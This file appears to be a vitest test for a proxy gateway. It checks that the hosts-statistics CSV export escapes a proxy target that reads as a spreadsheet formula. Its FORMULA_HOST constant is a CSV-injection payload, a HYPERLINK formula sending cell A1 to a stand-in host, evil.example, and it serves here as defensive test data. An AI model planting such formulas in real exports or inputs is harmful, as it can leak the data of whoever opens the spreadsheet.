import { connect } from 'node:net';
import type { StatsHostsResponse } from '@bytegate/contracts/stats';
import { testDatabaseKinds } from '@bytegate/db/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  buyDatacenterPlan,
  fetchThroughGateway,
  type GatewayFixture,
  startGatewayFixture,
  within,
} from '../testing/gateway-fixture.ts';

// A proxy client names its targets, and the Statistics' hosts export writes them into its owner's CSV
// (issue 28, item 8): a target that reads as a spreadsheet formula comes out as text, with a leading '.

/** What a client asks the gateway to CONNECT to: a formula (no ':', '/' or space, which CONNECT refuses). */
const FORMULA_HOST = '=HYPERLINK("evil.example?"&A1,"Open")';

describe.each(testDatabaseKinds())('the hosts CSV export of gateway traffic, on %s', (kind) => {
  let fixture: GatewayFixture;
  let customer: Awaited<ReturnType<typeof buyDatacenterPlan>>;
  const from = new Date(Date.now() - 2 * 60 * 60 * 1000).toISOString();
  const to = new Date(Date.now() + 60 * 60 * 1000).toISOString();
  const range = `from=${encodeURIComponent(from)}&to=${encodeURIComponent(to)}`;

  beforeAll(async () => {
    fixture = await startGatewayFixture(kind);
    customer = await buyDatacenterPlan(fixture.server);
    await within(3000, async () =>
      (
        await fetchThroughGateway(fixture, `${customer.login}:${customer.password}`, '/?bytes=1')
      ).status.includes('200'),
    );
  });
  afterAll(async () => {
    await fixture?.close();
  });

  /** A CONNECT through the gateway with the plan's login: the status line it answered. */
  function connectThroughGateway(target: string): Promise<string> {
    const credentials = Buffer.from(`${customer.login}:${customer.password}`).toString('base64');
    return new Promise((resolve, reject) => {
      const socket = connect(fixture.gateway.httpPort, '127.0.0.1', () => {
        socket.write(
          `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\nProxy-Authorization: Basic ${credentials}\r\n\r\n`,
        );
      });
      const chunks: Buffer[] = [];
      socket.on('data', (chunk: Buffer) => {
        chunks.push(chunk);
        socket.end();
      });
      socket.on('error', reject);
      socket.on('close', () => resolve(Buffer.concat(chunks).toString('latin1').split('\r\n')[0] ?? ''));
    });
  }

  it('writes a target host that starts like a formula as text, with a leading quote', async () => {
    // It does not resolve, so the gateway answers 502; what the client asked for is counted all the same.
    const port = new URL(fixture.originUrl).port;
    expect(await connectThroughGateway(`${FORMULA_HOST}:${port}`)).toMatch(/^HTTP\/1\.1 502 /);
    await fixture.gateway.flush();
    const hosts = await fixture.server.request<StatsHostsResponse>('GET', `/api/stats/hosts?${range}`, {
      token: customer.token,
    });
    const stored = FORMULA_HOST.toLowerCase();
    expect(hosts.body.hosts.map((host) => host.host)).toContain(stored);

    const exported = await fetch(`${fixture.server.url}/api/stats/hosts?${range}&format=csv`, {
      headers: { authorization: `Bearer ${customer.token}` },
    });
    const lines = (await exported.text()).trimEnd().split('\r\n');
    expect(lines[0]).toBe('host,bytes,requests,errors');
    const row = lines.find((line) => line.includes('hyperlink'));
    // Quoted (it holds quotes and a comma), its quotes doubled, and a ' before the '='.
    expect(row).toMatch(/^"'=hyperlink\(""evil\.example\?""&a1,""open""\)",\d+,1,1$/);
    expect(lines.every((line) => !/^"?[=+\-@]/.test(line))).toBe(true);
  });
});
